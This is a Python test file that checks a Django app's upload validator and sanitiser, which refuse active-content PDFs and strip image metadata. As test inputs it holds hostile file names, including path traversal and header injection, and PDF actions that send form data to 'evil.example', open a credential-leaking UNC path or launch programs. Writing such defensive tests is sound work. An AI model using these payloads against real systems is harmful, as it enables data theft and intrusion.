import io
import posixpath
import re
import struct
import zipfile
from types import SimpleNamespace

import pikepdf
import pytest
from PIL import Image

from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from applications import actions, uploads
from applications.forms import ApplicationForm, FixForm
from applications.models import ApplicationDocument
from tests.applications import badfiles
from tests.applications.factories import ApplicationDocumentFactory, ApplicationFactory

STORED_DOCUMENT = re.compile(r"^documents/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|jpg|png)$")
STORED_OUTPUT = re.compile(r"^outputs/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|jpg|png)$")
HOSTILE_FILENAMES = ["../../etc/passwd", "a\x00b.pdf", "é" * 300 + ".pdf", "x.php"]
HOSTILE_IDS = ["parent-dirs", "nul", "long-unicode", "php"]


@pytest.mark.parametrize(
    ("build", "code"),
    [
        (badfiles.empty_file, "empty"),
        (badfiles.oversize_pdf, "too_large"),
        (badfiles.html_renamed_pdf, "type"),
        (badfiles.svg_with_script, "type"),
        (badfiles.zip_file, "type"),
        (badfiles.gif_file, "type"),
        (badfiles.exe_file, "type"),
        (badfiles.text_file, "type"),
        (badfiles.truncated_pdf, "damaged"),
        (badfiles.html_between_pdf_markers, "damaged"),
        (badfiles.pdf_with_lzw_object_stream, "damaged"),
        (badfiles.pdf_with_flate_bomb_object_stream, "damaged"),
        (badfiles.encrypted_pdf, "encrypted"),
        (badfiles.pdf_with_javascript, "active_content"),
        (badfiles.pdf_with_hex_escaped_javascript, "active_content"),
        (badfiles.pdf_with_launch_action, "active_content"),
        (badfiles.pdf_with_javascript_in_object_stream, "active_content"),
        (badfiles.pdf_with_javascript_in_double_flate_object_stream, "active_content"),
        (badfiles.pdf_with_javascript_in_predicted_object_stream, "active_content"),
        (badfiles.pdf_with_javascript_name_tree, "active_content"),
        (badfiles.pdf_with_page_javascript, "active_content"),
        (badfiles.pdf_with_field_javascript, "active_content"),
        (badfiles.pdf_with_reset_form_then_javascript, "active_content"),
        (badfiles.pdf_with_xfa_script, "active_content"),
        (badfiles.pdf_with_embedded_file, "active_content"),
        (badfiles.pdf_with_file_attachment_annotation, "active_content"),
        (badfiles.pdf_with_launch_link, "active_content"),
        (badfiles.pdf_with_rich_media, "active_content"),
        (badfiles.pdf_opening_uri, "active_content"),
        (badfiles.pdf_with_page_uri_on_open, "active_content"),
        (badfiles.png_header_garbage, "damaged"),
        (badfiles.truncated_jpeg, "damaged"),
        (badfiles.png_decompression_bomb, "damaged"),
        pytest.param(
            lambda: badfiles.png_decompression_bomb(20_000, 20_000),
            "damaged",
            id="png_over_pillow_bomb_limit-damaged",
        ),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_bad_file_is_refused_with_its_code(build, code):
    """Each bad file is refused with one message and the code for its fault."""
    # given
    file = build()

    # when
    with pytest.raises(ValidationError) as caught:
        uploads.validate_upload(file)

    # then
    assert caught.value.code == code
    assert len(caught.value.messages) == 1
    assert file.tell() == 0


@pytest.mark.parametrize(
    ("build", "content_type"),
    [
        (badfiles.good_pdf, "application/pdf"),
        (lambda: badfiles.good_pdf(name="scan.jpg"), "application/pdf"),
        (badfiles.good_png, "image/png"),
        (lambda: badfiles.good_png(name="pas-foto.pdf"), "image/png"),
        (badfiles.good_jpeg, "image/jpeg"),
        (badfiles.phone_photo_mpo, "image/jpeg"),
        (badfiles.pdf_with_binary_stream, "application/pdf"),
        (lambda: badfiles.good_pdf(size_bytes=1024 * 1024), "application/pdf"),
        (lambda: badfiles.png_decompression_bomb(10_000, 5_000), "image/png"),
        (badfiles.pdf_with_uri_link, "application/pdf"),
        (badfiles.owner_locked_pdf, "application/pdf"),
        (badfiles.pdf_with_html_after_eof, "application/pdf"),
        (badfiles.pdf_with_html_inside, "application/pdf"),
        (badfiles.png_with_zip_appended, "image/png"),
        (badfiles.jpeg_with_gps, "image/jpeg"),
        (badfiles.cmyk_jpeg, "image/jpeg"),
        (badfiles.sixteen_bit_png, "image/png"),
    ],
    ids=[
        "pdf",
        "pdf-named-jpg",
        "png",
        "png-named-pdf",
        "jpeg",
        "phone-mpo-jpeg",
        "pdf-with-js-bytes-in-a-stream",
        "pdf-1mb",
        "png-exactly-50-megapixels",
        "pdf-with-a-web-link",
        "pdf-encrypted-without-open-password",
        "pdf-html-after-eof",
        "pdf-html-inside",
        "png-zip-appended",
        "jpeg-with-gps",
        "cmyk-jpeg",
        "16-bit-png",
    ],
)
def test_good_file_gives_its_detected_type_whatever_its_name(build, content_type):
    """The type comes from the bytes: a real PDF named .jpg is a PDF."""
    # given
    file = build()

    # when
    detected = uploads.validate_upload(file)

    # then
    assert detected == content_type
    assert file.tell() == 0


def test_pdf_builder_pads_to_the_exact_size():
    """good_pdf(size_bytes=n) is n bytes, so boundary tests mean what they say."""
    for size in [1_000, 1_001, 1_079, 1_080, 1_081, 1024 * 1024]:
        assert badfiles.good_pdf(size_bytes=size).size == size


def test_size_limit_is_inclusive():
    """A file of exactly max_bytes passes; one byte more is too large."""
    # given
    limit = 10_000
    at_limit = badfiles.good_pdf(size_bytes=limit)
    over_limit = badfiles.oversize_pdf(limit)

    # when
    detected = uploads.validate_upload(at_limit, max_bytes=limit)
    with pytest.raises(ValidationError) as caught:
        uploads.validate_upload(over_limit, max_bytes=limit)

    # then
    assert detected == "application/pdf"
    assert caught.value.code == "too_large"
    assert over_limit.size == limit + 1


def test_default_limit_is_five_megabytes():
    """5 MB passes by default; 5 MB and one byte is refused."""
    # given
    at_limit = badfiles.good_pdf(size_bytes=5 * 1024 * 1024)

    # when
    detected = uploads.validate_upload(at_limit)

    # then
    assert detected == "application/pdf"
    with pytest.raises(ValidationError) as caught:
        uploads.validate_upload(badfiles.oversize_pdf())
    assert caught.value.code == "too_large"


def test_too_large_message_rounds_the_size_up_to_one_decimal():
    """One byte over 5 MB reads "5.1 MB", never "5.0 MB; the limit is 5.0 MB"."""
    # given
    file = badfiles.oversize_pdf()

    # when
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        uploads.validate_upload(file)

    # then
    with translation.override("en"):
        assert caught.value.messages == ["The file is 5.1 MB; the limit is 5.0 MB."]


def test_too_large_numbers_follow_the_active_language():
    """Indonesian writes the decimal with a comma."""
    # given
    limit = 3 * 1024 * 1024
    file = badfiles.oversize_pdf(limit)

    # when
    with translation.override("id"), pytest.raises(ValidationError) as caught:
        uploads.validate_upload(file, max_bytes=limit)

    # then
    assert caught.value.params == {"size": "3,1", "limit": "3,0"}


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (badfiles.empty_file, "The file is empty."),
        (
            badfiles.html_renamed_pdf,
            "Only PDF, JPEG or PNG files are accepted. "
            "This file is not one of them, whatever its name says.",
        ),
        (
            badfiles.truncated_pdf,
            "The file is damaged or contains active content; "
            "please scan or export it again.",
        ),
        (
            badfiles.pdf_with_javascript,
            "This PDF contains active content (scripts, attached files, media or "
            "links that start programs), which is not accepted. Print it to a new "
            "PDF or scan the paper, then upload that file.",
        ),
        (
            badfiles.encrypted_pdf,
            "This PDF is protected with a password. Save a copy without the "
            "password, then upload that copy.",
        ),
    ],
    ids=["empty", "type", "damaged", "active-content", "encrypted"],
)
def test_messages_in_english(build, message):
    """The English messages, which the Indonesian catalogue translates."""
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        uploads.validate_upload(build())

    with translation.override("en"):
        assert caught.value.messages == [message]


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (
            badfiles.pdf_with_xfa_script,
            "PDF ini berisi konten aktif (skrip, lampiran berkas, media, atau tautan "
            "yang menjalankan program) sehingga tidak dapat diterima. Cetak ulang ke "
            "PDF baru atau pindai dokumen kertasnya, lalu unggah berkas tersebut.",
        ),
        (
            badfiles.encrypted_pdf,
            "PDF ini dilindungi kata sandi. Simpan salinannya tanpa kata sandi, lalu "
            "unggah salinan tersebut.",
        ),
        (
            badfiles.truncated_pdf,
            "Berkas rusak atau berisi konten aktif; silakan pindai atau ekspor ulang.",
        ),
    ],
    ids=["active-content", "encrypted", "damaged"],
)
def test_pdf_messages_in_indonesian(build, message):
    """Indonesian, the default language, has every PDF refusal."""
    with translation.override("id"), pytest.raises(ValidationError) as caught:
        uploads.validate_upload(build())

    with translation.override("id"):
        assert caught.value.messages == [message]


def test_size_is_checked_against_the_bytes_too():
    """A file whose `size` understates its content is still too large."""
    # given
    file = badfiles.good_pdf(size_bytes=2_000)
    file.size = 100

    # when
    with pytest.raises(ValidationError) as caught:
        uploads.validate_upload(file, max_bytes=1_000)

    # then
    assert caught.value.code == "too_large"
    assert file.tell() == 0


def test_pillow_format_must_agree_with_the_magic_bytes(monkeypatch):
    """An image Pillow reads as another format than its first bytes say is
    damaged; here an MPO photo when only plain JPEG is expected."""
    # given
    monkeypatch.setitem(uploads._PILLOW_FORMATS, "image/jpeg", {"JPEG"})

    # when
    with pytest.raises(ValidationError) as caught:
        uploads.validate_upload(badfiles.phone_photo_mpo())

    # then
    assert caught.value.code == "damaged"


def test_validate_starts_reading_at_the_beginning():
    """A file left at another position is still read whole, and rewound."""
    # given
    file = badfiles.good_png()
    file.seek(5)

    # when
    detected = uploads.validate_upload(file)

    # then
    assert detected == "image/png"
    assert file.tell() == 0


@pytest.mark.parametrize(
    ("build", "content_type"),
    [
        (badfiles.good_pdf, "application/pdf"),
        (badfiles.good_jpeg, "image/jpeg"),
        (badfiles.good_png, "image/png"),
        (badfiles.html_renamed_pdf, None),
        (badfiles.gif_file, None),
        (badfiles.empty_file, None),
    ],
    ids=["pdf", "jpeg", "png", "html", "gif", "empty"],
)
def test_sniff_content_type_reads_magic_bytes_and_rewinds(build, content_type):
    # given
    file = build()
    file.seek(3)

    # when
    sniffed = uploads.sniff_content_type(file)

    # then
    assert sniffed == content_type
    assert file.tell() == 0


@pytest.mark.parametrize("filename", HOSTILE_FILENAMES, ids=HOSTILE_IDS)
@pytest.mark.parametrize(
    ("content_type", "extension"),
    [("application/pdf", ".pdf"), ("image/jpeg", ".jpg"), ("image/png", ".png")],
)
def test_document_path_ignores_the_uploaded_name(filename, content_type, extension):
    """A crafted name never reaches the path; the extension is the detected type's."""
    # given
    instance = SimpleNamespace(content_type=content_type, file=None)

    # when
    path = uploads.document_upload_to(instance, filename)

    # then
    assert STORED_DOCUMENT.match(path)
    assert path.endswith(extension)
    assert posixpath.normpath(path) == path
    assert posixpath.join("/srv/private-media", path).startswith("/srv/private-media/")


@pytest.mark.parametrize(
    ("build", "extension"),
    [
        (lambda: badfiles.good_pdf(name="foto.png"), ".pdf"),
        (lambda: badfiles.good_jpeg(name="surat.pdf"), ".jpg"),
        (lambda: badfiles.good_png(name="shell.php"), ".png"),
    ],
    ids=["pdf", "jpeg", "png"],
)
def test_document_path_sniffs_the_file_when_no_type_is_set(build, extension):
    # given
    file = build()
    instance = SimpleNamespace(content_type="", file=file)

    # when
    path = uploads.document_upload_to(instance, file.name)

    # then
    assert STORED_DOCUMENT.match(path)
    assert path.endswith(extension)
    assert file.tell() == 0


def test_document_path_refuses_a_file_of_no_allowed_type():
    """Nothing unvalidated is stored, even when a caller forgot validate_upload."""
    instance = SimpleNamespace(content_type="", file=badfiles.html_renamed_pdf())

    with pytest.raises(ValidationError) as caught:
        uploads.document_upload_to(instance, "surat-pengantar.pdf")

    assert caught.value.code == "type"


def test_document_path_refuses_a_content_type_not_allowed():
    instance = SimpleNamespace(content_type="text/html", file=badfiles.good_pdf())

    with pytest.raises(ValidationError) as caught:
        uploads.document_upload_to(instance, "surat.pdf")

    assert caught.value.code == "type"


def test_two_uploads_of_the_same_name_get_different_paths():
    instance = SimpleNamespace(content_type="application/pdf", file=None)

    first = uploads.document_upload_to(instance, "ktp.pdf")
    second = uploads.document_upload_to(instance, "ktp.pdf")

    assert first != second


@pytest.mark.parametrize("filename", HOSTILE_FILENAMES, ids=HOSTILE_IDS)
def test_output_path_uses_the_output_fields(filename):
    """Application keeps its result in output_file/output_content_type."""
    # given
    file = badfiles.good_pdf(name="hasil.png")
    instance = SimpleNamespace(output_content_type="", output_file=file)

    # when
    path = uploads.output_upload_to(instance, filename)

    # then
    assert STORED_OUTPUT.match(path)
    assert path.endswith(".pdf")


def test_output_path_falls_back_to_content_type_and_file():
    instance = SimpleNamespace(content_type="image/png", file=None)

    path = uploads.output_upload_to(instance, "../../x.php")

    assert STORED_OUTPUT.match(path)
    assert path.endswith(".png")


@pytest.mark.parametrize(
    ("label", "content_type", "expected"),
    [
        ("KTP-el asli", "application/pdf", "ktp-el-asli.pdf"),
        ("Pas foto 3×4", "image/jpeg", "pas-foto-34.jpg"),
        ("Kartu Keluarga (KK)", "image/png", "kartu-keluarga-kk.png"),
        (
            "Surat Pernyataan Ahli Waris",
            "application/pdf",
            "surat-pernyataan-ahli-waris.pdf",
        ),
        ("Ijazah SMA/SMK", "application/pdf", "ijazah-smasmk.pdf"),
        ("Übersetzung é", "application/pdf", "ubersetzung-e.pdf"),
        ("../../etc/passwd", "application/pdf", "etcpasswd.pdf"),
        ('a"; filename=x.html\r\nX: y', "application/pdf", "a-filenamexhtml-x-y.pdf"),
        ("", "application/pdf", "dokumen.pdf"),
        ("   ", "image/png", "dokumen.png"),
        ("身份证", "image/jpeg", "dokumen.jpg"),
        ("---", "application/pdf", "dokumen.pdf"),
        ("x" * 300, "application/pdf", "x" * 80 + ".pdf"),
    ],
)
def test_download_filename(label, content_type, expected):
    assert uploads.download_filename(label=label, content_type=content_type) == expected


def test_download_filename_refuses_an_unknown_type():
    with pytest.raises(ValueError, match="text/html"):
        uploads.download_filename(label="KTP", content_type="text/html")


# ---------------------------------------------------------------- PDF: what is refused


@pytest.mark.parametrize(
    ("action_type", "entries"),
    [
        ("SubmitForm", {"F": "https://evil.example/collect"}),
        ("ImportData", {"F": "data.fdf"}),
        ("GoToR", {"F": "\\\\evil.example\\share\\doc.pdf"}),
        ("GoToE", {"T": pikepdf.Dictionary(R=pikepdf.Name.C, N="lampiran")}),
        ("Rendition", {}),
        ("RichMediaExecute", {}),
        ("Movie", {}),
        ("Sound", {}),
        ("Launch", {"F": "calc.exe"}),
        ("JavaScript", {"JS": "app.alert(1);"}),
    ],
)
def test_links_that_run_send_or_open_something_are_refused(action_type, entries):
    """Clicking the link would run code, send or import data, open another file
    (a UNC path leaks the officer's Windows login) or play media."""
    file = badfiles.pdf_with_link_action(action_type, **entries)

    with pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(file)

    assert caught.value.code == "active_content"


@pytest.mark.parametrize(
    ("action_type", "entries"),
    [
        ("GoTo", {"D": "bab-1"}),
        ("Named", {"N": pikepdf.Name.NextPage}),
        ("URI", {"URI": "https://example.id/cek"}),
    ],
)
def test_links_within_the_document_or_to_a_website_are_kept(action_type, entries):
    """A table of contents, "next page" and a verification link are ordinary."""
    file = badfiles.pdf_with_link_action(action_type, **entries)

    upload = uploads.sanitize_upload(file)

    with pikepdf.open(io.BytesIO(upload.file.read())) as pdf:
        action = pdf.pages[0].Annots[0].A
        assert str(action.S) == "/" + action_type


def test_too_many_pages_are_refused_with_the_count(monkeypatch):
    # given
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 3)

    # when
    accepted = uploads.sanitize_upload(badfiles.long_pdf(3))
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(badfiles.long_pdf(4))

    # then
    assert accepted.content_type == "application/pdf"
    assert caught.value.code == "too_many_pages"
    with translation.override("en"):
        assert caught.value.messages == ["The PDF has 4 pages; the limit is 3."]


def test_too_many_objects_are_refused_before_they_are_read(monkeypatch):
    """The count comes from the cross-reference table, objects in object streams
    included, before any of them is unpacked."""
    # given
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 100)

    # when
    accepted = uploads.sanitize_upload(badfiles.pdf_with_many_objects(50))
    with pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(badfiles.pdf_with_many_objects(200))

    # then
    assert accepted.content_type == "application/pdf"
    assert caught.value.code == "damaged"


def test_too_many_values_to_check_are_refused(monkeypatch):
    """One object may hold millions of values; the walk stops at MAX_PDF_ITEMS."""
    # given
    monkeypatch.setattr(uploads, "MAX_PDF_ITEMS", 200)

    # when
    accepted = uploads.sanitize_upload(badfiles.long_pdf(3))
    with pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(badfiles.long_pdf(100))

    # then
    assert accepted.content_type == "application/pdf"
    assert caught.value.code == "damaged"


def test_a_pdf_whose_cross_reference_table_must_be_rebuilt_is_damaged():
    """qpdf could rebuild it, but a file that does not say where its objects are
    (here: every offset shifted by a line) is not read as written."""
    content = badfiles.good_pdf().read().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%%\n", 1)
    file = SimpleUploadedFile("surat.pdf", content, badfiles.PDF)

    with pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(file)

    assert caught.value.code == "damaged"


# ---------------------------------------------------------------- PDF: what is stored


def _reopened_pdf(data: bytes) -> pikepdf.Pdf:
    pdf = pikepdf.open(io.BytesIO(data), attempt_recovery=False)
    assert pdf.get_warnings() == []
    return pdf


@pytest.mark.parametrize(
    "build",
    [badfiles.pdf_with_html_after_eof, badfiles.pdf_with_html_inside],
    ids=["html-after-eof", "html-inside"],
)
def test_html_around_a_pdf_is_not_stored(build):
    """Only the objects are written again: the HTML a browser could run is gone."""
    # given
    file = build()
    sent = file.read()
    assert b"<script>" in sent

    # when
    upload = uploads.sanitize_upload(file)

    # then
    stored = upload.file.read()
    assert stored.startswith(b"%PDF-")
    assert stored.endswith(b"%%EOF\n")
    assert stored.count(b"%%EOF") == 1
    assert b"<html" not in stored and b"<script" not in stored
    with _reopened_pdf(stored) as pdf:
        assert len(pdf.pages) == 1


def test_stored_pdf_is_the_rewritten_one():
    """Comments padding a 1 MB PDF are outside its objects, so not stored; the
    text of its page is."""
    # given
    file = badfiles.good_pdf(size_bytes=1024 * 1024)

    # when
    upload = uploads.sanitize_upload(file)

    # then
    stored = upload.file.read()
    assert upload.file.size == len(stored) < 10_000
    with _reopened_pdf(stored) as pdf:
        assert b"Surat Pengantar RT 004" in pdf.pages[0].Contents.read_bytes()


def test_encryption_without_an_open_password_is_removed():
    upload = uploads.sanitize_upload(badfiles.owner_locked_pdf())

    with _reopened_pdf(upload.file.read()) as pdf:
        assert not pdf.is_encrypted
        assert "/Encrypt" not in pdf.trailer


def test_web_link_is_kept_in_the_stored_pdf():
    upload = uploads.sanitize_upload(badfiles.pdf_with_uri_link())

    with _reopened_pdf(upload.file.read()) as pdf:
        link = pdf.pages[0].Annots[0]
        assert link.A.URI == "https://mpp.kepriprov.go.id/cek"


def test_rewritten_file_is_held_to_the_limit_too(monkeypatch):
    """A file that the re-writing would make larger than allowed is refused with
    the size it would be stored at."""
    # given
    monkeypatch.setattr(uploads, "_png_bytes", lambda image: bytes(3_000))
    file = badfiles.good_png()
    assert file.size < 2_000

    # when
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        uploads.sanitize_upload(file, max_bytes=2_000)

    # then
    assert caught.value.code == "too_large"


# ---------------------------------------------------------------- images: what is kept


def _png_chunks(data: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order; fails on any byte after IEND."""
    position, kinds = 8, []
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kinds.append(data[position + 4 : position + 8])
        position += 12 + length
    assert position == len(data)
    return kinds


def test_png_with_a_zip_appended_is_stored_without_it():
    # given
    file = badfiles.png_with_zip_appended()
    assert zipfile.is_zipfile(file)
    file.seek(0)

    # when
    upload = uploads.sanitize_upload(file)

    # then
    stored = upload.file.read()
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert b"PK\x03\x04" not in stored
    assert _png_chunks(stored)[-1] == b"IEND"
    assert Image.open(io.BytesIO(stored)).size == (120, 160)


def test_jpeg_is_stored_upright_without_exif_gps_or_comment():
    """The GPS position of the citizen's home, the phone's model and the comment
    are dropped; the orientation is applied to the pixels instead."""
    # given
    file = badfiles.jpeg_with_gps()
    with Image.open(file) as sent:
        assert sent.getexif().get_ifd(0x8825)[2] == badfiles.GPS_LATITUDE
        assert sent.size == (120, 160)
    file.seek(0)

    # when
    upload = uploads.sanitize_upload(file)

    # then
    stored = upload.file.read()
    assert b"Exif\x00\x00" not in stored
    assert b"Redmi" not in stored and b"Teuku Umar" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert image.size == (160, 120)
        assert not image.getexif()
        assert "exif" not in image.info and "comment" not in image.info
    assert stored.endswith(b"\xff\xd9")


def test_png_is_stored_without_text_or_exif_chunks():
    # given
    file = badfiles.png_with_text_chunks()
    assert b"Siti Aminah" in file.read()
    file.seek(0)

    # when
    upload = uploads.sanitize_upload(file)

    # then
    stored = upload.file.read()
    assert set(_png_chunks(stored)) <= {
        b"IHDR",
        b"PLTE",
        b"tRNS",
        b"pHYs",
        b"IDAT",
        b"IEND",
    }
    assert b"Siti Aminah" not in stored and b"Redmi" not in stored


def test_colour_profile_is_applied_then_dropped():
    upload = uploads.sanitize_upload(badfiles.jpeg_with_icc_profile())

    with Image.open(upload.file) as image:
        assert image.mode == "RGB"
        assert "icc_profile" not in image.info


@pytest.mark.parametrize(
    ("build", "image_format", "mode"),
    [
        (badfiles.cmyk_jpeg, "JPEG", "RGB"),
        (badfiles.phone_photo_mpo, "JPEG", "RGB"),
        (badfiles.palette_png_with_transparency, "PNG", "P"),
        (badfiles.rgba_png, "PNG", "RGBA"),
        (badfiles.sixteen_bit_png, "PNG", "I;16"),
        (lambda: badfiles.png_decompression_bomb(2_000, 1_000), "PNG", "1"),
    ],
    ids=["cmyk-jpeg", "mpo", "palette-transparent-png", "rgba-png", "16-bit", "1-bit"],
)
def test_image_is_stored_in_its_format_and_a_mode_viewers_show(
    build, image_format, mode
):
    """Same format; CMYK becomes RGB, a phone's extra depth picture is dropped,
    transparency and depth are kept."""
    # given
    file = build()
    with Image.open(file) as sent:
        size = sent.size
        transparency = sent.info.get("transparency")
    file.seek(0)

    # when
    upload = uploads.sanitize_upload(file)

    # then
    with Image.open(upload.file) as image:
        assert image.format == image_format
        assert image.mode == mode
        assert image.size == size
        assert image.info.get("transparency") == transparency
        assert getattr(image, "n_frames", 1) == 1
        image.load()


# ---------------------------------------------------------------- what the forms keep


@pytest.mark.django_db
def test_application_form_stores_the_rewritten_file_and_its_size():
    """What is stored, and the size shown to the citizen and the officer, are
    those of the re-written file, not of what was sent."""
    # given
    draft = ApplicationFactory()
    ktp, letter = draft.service.requirements.order_by("position")
    pdf, png = badfiles.pdf_with_html_after_eof(), badfiles.png_with_zip_appended()
    form = ApplicationForm(
        data={},
        files={f"doc_{ktp.pk}": pdf, f"doc_{letter.pk}": png},
        requirements=[ktp, letter],
        service_fields=[],
    )

    # when
    assert form.is_valid(), form.errors
    actions.application_save_draft(
        application=draft, field_values={}, files=form.valid_files()
    )

    # then
    for requirement, sent in [(ktp, pdf), (letter, png)]:
        document = ApplicationDocument.objects.get(
            application=draft, requirement=requirement
        )
        with document.file.open("rb") as handle:
            stored = handle.read()
        assert document.size == len(stored) != sent.size
        assert b"<script" not in stored and b"PK\x03\x04" not in stored


@pytest.mark.django_db
def test_fix_form_hands_over_the_rewritten_file():
    # given
    document = ApplicationDocumentFactory(needs_fix=True)
    sent = badfiles.jpeg_with_gps()
    form = FixForm(
        data={}, files={f"doc_{document.requirement_id}": sent}, documents=[document]
    )

    # when
    assert form.is_valid(), form.errors
    [(requirement, file, content_type)] = form.valid_files()

    # then
    assert requirement == document.requirement
    assert content_type == "image/jpeg"
    assert file is not sent
    stored = file.read()
    assert file.size == len(stored)
    assert b"Exif" not in stored and b"Redmi" not in stored


@pytest.mark.django_db
def test_a_refused_pdf_gives_the_field_its_message():
    draft = ApplicationFactory()
    ktp = draft.service.requirements.order_by("position").first()
    form = ApplicationForm(
        data={},
        files={f"doc_{ktp.pk}": badfiles.pdf_with_embedded_file()},
        requirements=[ktp],
        service_fields=[],
    )

    assert not form.is_valid()
    assert form.errors.as_data()[f"doc_{ktp.pk}"][0].code == "active_content"
    assert form.valid_files() == {}
